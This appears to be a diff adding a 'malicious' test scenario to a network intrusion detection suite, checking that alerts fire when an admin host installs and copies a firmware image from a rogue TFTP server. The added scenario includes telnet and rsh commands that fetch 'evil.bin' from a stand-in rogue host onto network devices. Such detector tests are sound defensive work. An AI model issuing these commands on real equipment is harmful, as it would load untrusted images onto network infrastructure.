@@ -242,3 +242,25 @@ def bw07_declared_server(wire: Wire) -> None:
     session.typed("conf t")
     session.typed("boot host tftp://boot.corp.example/edge1-confg")
     session.close()
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    raises=[("BW07", 1, "10.0.9.10", "10.0.1.1"), ("BW07", 6, "10.0.9.10", "10.0.1.2")],
+    raises_with_site=[("BW07", 11, "10.0.9.10", "10.0.1.1"), ("BW07", 16, "10.0.9.10", "10.0.1.2")],
+    site=HQ,
+    with_site=Expect(
+        notices=(
+            Notice("Boot_Command", "10.0.1.1", "10.0.6.66", "evil.bin"),
+            Notice("Boot_Command", "10.0.1.2", "10.0.6.66", "evil.bin"),
+        )
+    ),
+)
+def bw07_from_an_admin_host(wire: Wire) -> None:
+    """From an admin host, an image is installed and another copied from a rogue server, by telnet and by rsh."""
+    session = Telnet(wire, ADMIN, DEVICE)
+    session.login()
+    session.typed(f"install add file tftp://{ROGUE}/evil.bin activate commit")
+    session.close()
+    rsh(wire, ADMIN, "10.0.1.2", f"copy tftp://{ROGUE}/evil.bin flash:")
